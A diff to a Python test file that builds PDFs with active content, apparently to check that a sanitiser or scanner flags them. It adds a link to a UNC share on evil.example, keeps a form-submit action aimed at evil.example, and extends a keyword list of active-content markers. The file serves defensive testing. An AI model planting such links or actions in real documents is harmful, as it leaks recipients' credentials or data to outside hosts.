@@ -120,6 +120,12 @@ def add_launch_link(pdf):
     pdf.pages[0].Annots = [link]
 
 
+def add_link_to_a_share(pdf):
+    remote = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="\\\\evil.example\\share\\a.pdf", D=[0, pikepdf.Name.Fit])
+    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=remote)
+    pdf.pages[0].Annots = [link]
+
+
 def add_chained_submit(pdf):
     submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example")
     first = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org", Next=[submit])
@@ -153,7 +159,19 @@ def add_rich_media(pdf):
     pdf.pages[0].Annots = [note]
 
 
-ACTIVE = ("JavaScript", "/JS", "Launch", "SubmitForm", "EmbeddedFile", "/EF", "/AA", "XFA", "RichMediaContent", "MZ")
+ACTIVE = (
+    "JavaScript",
+    "/JS",
+    "Launch",
+    "GoToR",
+    "SubmitForm",
+    "EmbeddedFile",
+    "/EF",
+    "/AA",
+    "XFA",
+    "RichMediaContent",
+    "MZ",
+)
 
 
 @pytest.mark.parametrize(
@@ -163,6 +181,7 @@ ACTIVE = ("JavaScript", "/JS", "Launch", "SubmitForm", "EmbeddedFile", "/EF", "/
         (add_named_script, "script"),
         (add_page_action, "action"),
         (add_launch_link, "action"),
+        (add_link_to_a_share, "action"),
         (add_chained_submit, "action"),
         (add_attachment, "attachment"),
         (add_attachment_note, "attachment"),
